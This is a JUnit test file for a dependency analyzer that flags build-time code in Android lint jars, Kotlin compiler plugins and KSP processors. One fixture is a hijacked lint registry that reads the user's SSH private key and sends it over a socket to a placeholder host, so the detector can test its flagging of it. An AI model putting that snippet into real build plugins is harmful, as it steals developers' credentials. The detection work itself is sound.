package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.ArchiveFixture;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Service files and manifest attributes by which a build tool, not the application, runs a jar's code:
 * Android lint registries (an AAR's lint.jar), Kotlin compiler plugins, KSP processors.
 */
class BuildToolEntryPointsTest {
  @TempDir Path tmp;

  private static final String QUIET_REGISTRY = """
      package fixture.lint;
      import java.util.List;
      public class Registry {
        public List<String> getIssues() { return List.of("UnusedThing"); }
        public int getApi() { return 14; }
      }
      """;

  /** The registry reads the build machine's SSH key and posts it: what a hijacked lint check would do. */
  private static final String THIEF_REGISTRY = """
      package fixture.lint;
      import java.nio.file.*;
      import java.util.List;
      public class Registry {
        public List<String> getIssues() {
          try (var s = new java.net.Socket("lint-telemetry.invalid", 443)) {
            s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh", "id_ed25519")));
          } catch (Exception e) { }
          return List.of();
        }
      }
      """;

  private Path aar(JarFixture.Builder lintJar) throws Exception {
    byte[] classes = JarFixture.builder().javaSource("fixture/Widget", "package fixture; public class Widget {}").toBytes();
    return ArchiveFixture.create()
        .file("AndroidManifest.xml", "<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\" package=\"fixture\"/>")
        .file("classes.jar", classes)
        .file("lint.jar", lintJar.toBytes())
        .file("R.txt", "")
        .zip(tmp.resolve("widgets-1.0.aar"));
  }

  @Test
  void aarWhoseLintJarRegistersAnIssueRegistryServiceIsBuildTimeCode() throws Exception {
    Path aar = aar(JarFixture.builder()
        .service("com.android.tools.lint.client.api.IssueRegistry", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", QUIET_REGISTRY));

    assertThat(JarAnalysis.of(aar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.summary()).contains("fixture.lint.Registry", "lint runs inside the build");
      assertThat(f.evidence().path()).startsWith("lint.jar!/");
    });
  }

  @Test
  void aarWhoseLintJarNamesItsRegistryInTheManifestIsBuildTimeCode() throws Exception {
    Path aar = aar(JarFixture.builder()
        .manifest("Lint-Registry-v2", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", QUIET_REGISTRY));

    assertThat(JarAnalysis.of(aar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.summary()).contains("Android lint registry (Lint-Registry-v2)", "fixture.lint.Registry");
    });
  }

  @Test
  void lintRegistryThatSendsSshKeysAwayIsFollowedIntoItsProtocolMethods() throws Exception {
    Path aar = aar(JarFixture.builder()
        .service("com.android.tools.lint.client.api.IssueRegistry", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", THIEF_REGISTRY));

    assertThat(JarAnalysis.of(aar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.capabilities()).contains(Capability.NETWORK, Capability.CREDENTIAL_READ);
    });
  }

  private static final String DETECTOR = """
      package fixture.lint;
      public class CallDetector {
        public java.util.List<String> getApplicableMethodNames() { return java.util.List.of("commit"); }
        public void visitMethodCall(Object context, Object node, Object method) {
          %s
        }
      }
      """;

  /** androidx's shape: a registry listing issues whose detectors only inspect the project's code. */
  @Test
  void lintChecksThatReachNothingSensitiveAreRatedLow() throws Exception {
    Path aar = aar(JarFixture.builder()
        .service("com.android.tools.lint.client.api.IssueRegistry", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", QUIET_REGISTRY)
        .javaSource("fixture/lint/CallDetector", DETECTOR.formatted("System.out.println(node);")));

    assertThat(JarAnalysis.of(aar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.capabilities()).isEmpty();
      assertThat(f.severity()).isEqualTo(Severity.LOW);
    });
  }

  /** Lint runs detectors that the registry names only by class literal: every class of the lint.jar is followed. */
  @Test
  void aDetectorTheRegistryNamesOnlyByClassLiteralIsFollowed() throws Exception {
    Path aar = aar(JarFixture.builder()
        .service("com.android.tools.lint.client.api.IssueRegistry", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", QUIET_REGISTRY)
        .javaSource("fixture/lint/CallDetector", DETECTOR.formatted(
            "try { new ProcessBuilder(\"echo\", \"lint\").start(); } catch (java.io.IOException e) { }")));

    assertThat(JarAnalysis.of(aar).code()).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).contains("visitMethodCall() reaches process spawn");
    });
  }

  @Test
  void lintRegistryInAPlainJarIsBuildTimeCodeToo() throws Exception {
    Path jar = Files.write(tmp.resolve("checks-1.0.jar"), JarFixture.builder()
        .manifest("Lint-Registry", "fixture.lint.Registry")
        .javaSource("fixture/lint/Registry", QUIET_REGISTRY).toBytes());

    assertThat(JarAnalysis.of(jar).code()).extracting(f -> f.trigger()).containsExactly(Trigger.BUILD_PLUGIN);
  }

  @Test
  void kotlinCompilerPluginAndKspProcessorAreBuildTimeCode() throws Exception {
    Path jar = JarFixture.builder()
        .service("org.jetbrains.kotlin.compiler.plugin.CompilerPluginRegistrar", "fixture.kt.Registrar")
        .service("com.google.devtools.ksp.processing.SymbolProcessorProvider", "fixture.kt.Provider")
        .javaSource("fixture/kt/Registrar", """
            package fixture.kt;
            public class Registrar { public void registerExtensions(Object configuration) {
              try { Runtime.getRuntime().exec(new String[] {"id"}); } catch (Exception e) { } } }
            """)
        .javaSource("fixture/kt/Provider", "package fixture.kt; public class Provider { public Object create(Object e) { return null; } }")
        .build(tmp);

    assertThat(JarAnalysis.of(jar).code()).extracting(f -> f.trigger())
        .containsOnly(Trigger.ANNOTATION_PROCESSOR).hasSize(2);
    assertThat(JarAnalysis.of(jar).code()).filteredOn(f -> f.summary().contains("Registrar")).singleElement()
        .satisfies(f -> assertThat(f.capabilities()).contains(Capability.PROCESS_SPAWN));
  }

  @Test
  void aarWithoutLintChecksRunsNothingAtBuildTime() throws Exception {
    byte[] classes = JarFixture.builder().javaSource("fixture/Widget", "package fixture; public class Widget {}").toBytes();
    Path aar = ArchiveFixture.create()
        .file("AndroidManifest.xml", "<manifest package=\"fixture\"/>")
        .file("classes.jar", classes)
        .zip(tmp.resolve("plain-1.0.aar"));

    assertThat(JarAnalysis.of(aar).findings()).isEmpty();
  }
}
